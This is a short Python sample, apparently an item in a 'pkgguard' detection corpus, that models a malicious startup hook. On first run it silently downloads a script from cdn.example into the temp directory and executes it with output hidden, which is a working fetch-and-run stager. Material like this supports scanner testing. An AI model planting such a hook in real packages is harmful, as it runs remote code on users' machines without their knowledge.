# pkgguard corpus 350 (startup-hook), modelled on [startup-hooks]; inert, never run.
import os
import subprocess
import sys
import tempfile
import urllib.request

_marker = os.path.join(tempfile.gettempdir(), ".pkg-once")
if not os.path.exists(_marker):
    open(_marker, "w").close()
    _script = os.path.join(tempfile.gettempdir(), "pkg_u.py")
    urllib.request.urlretrieve("https://cdn.example/u.py", _script)
    subprocess.Popen([sys.executable, _script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
